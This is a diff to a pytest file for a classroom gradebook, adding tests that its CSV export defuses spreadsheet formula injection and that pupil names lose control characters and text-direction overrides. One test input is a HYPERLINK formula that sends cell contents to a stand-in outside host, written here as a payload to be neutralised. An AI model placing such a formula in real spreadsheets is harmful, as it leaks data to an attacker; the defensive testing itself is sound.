@@ -61,10 +61,32 @@ def test_games_are_kept_with_their_record_once_per_key(tmp_path):
 
 def test_export_is_a_csv_a_spreadsheet_reads(tmp_path):
     book = ClassBook(tmp_path)
-    book.attempt("Zoé, 5e B", "fr/ohanami", "e1", "21", True, at=0.0)
+    book.attempt("Zoé, 5e B", "fr/ohanami", "e1", "21", True, at=0.0, attempt=2)
     rows = list(csv.reader(book.export_csv(tmp_path / "out.csv").open(encoding="utf-8")))
-    assert rows == [["pupil", "lesson", "exercise", "answer", "right", "time"],
-                    ["Zoé, 5e B", "fr/ohanami", "e1", "21", "yes", "1970-01-01T00:00:00Z"]]
+    assert rows == [["pupil", "lesson", "exercise", "attempt", "answer", "right", "time"],
+                    ["Zoé, 5e B", "fr/ohanami", "e1", "2", "21", "yes", "1970-01-01T00:00:00Z"]]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"Hi")', "+1+1", "-2+3", "@SUM(A1)",
+                                   "\t=1+1", "\r=1+1"])
+def test_no_cell_of_the_export_runs_as_a_formula(tmp_path, typed):
+    book = ClassBook(tmp_path)
+    book.attempt(typed, "ohanami", "1", typed, False, at=0.0)
+    # the book keeps names and answers on one line: a leading tab or CR is gone, the rest quoted
+    row = list(csv.reader(book.export_csv(tmp_path / "out.csv").open(encoding="utf-8")))[1]
+    for cell in (row[0], row[4]):
+        assert cell[0] == "'" and cell[1:] == typed.strip(), row
+    assert classbook.as_text("\t=1") == "'\t=1" and classbook.as_text("\r=1") == "'\r=1"
+    assert classbook.as_text("21") == "21" and classbook.as_text("Zoé") == "Zoé"
+
+
+@pytest.mark.parametrize("mark", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
+                                  "\u2069", "\u200e", "\u200f", "\u200b", "\x00", "\x07", "\x1b", "\x7f", "\x9b", "\ufeff"])
+def test_names_lose_control_characters_and_direction_overrides(tmp_path, mark):
+    book = ClassBook(tmp_path)
+    book.attempt(f"Ada{mark}nnA{mark} Lo", "ohanami", "1", f"2{mark}1", True)
+    (kept,) = book.attempts()
+    assert (kept.pupil, kept.answer) == ("AdannA Lo", "21")
 
 
 def test_clear_forgets_the_class(tmp_path):
@@ -133,7 +155,7 @@ def test_clear_waits_for_a_pupil_writing_meanwhile(tmp_path):
     book.attempt("Ada", "ohanami", "1", "20", False)
     pupil = sqlite3.connect(tmp_path / classbook.FILE, isolation_level=None)
     pupil.execute("BEGIN IMMEDIATE")  # a pupil's kernel in the middle of a write
-    pupil.execute("INSERT INTO attempts VALUES ('k', 'Bo', 'ohanami', '1', '21', 1, 0)")
+    pupil.execute("INSERT INTO attempts (key, pupil, lesson, exercise, answer, right, at) VALUES ('k', 'Bo', 'ohanami', '1', '21', 1, 0)")
     clearing = threading.Thread(target=book.clear)
     clearing.start()
     time.sleep(0.2)  # not a readiness wait: the outcome is the same whether clear waited or not
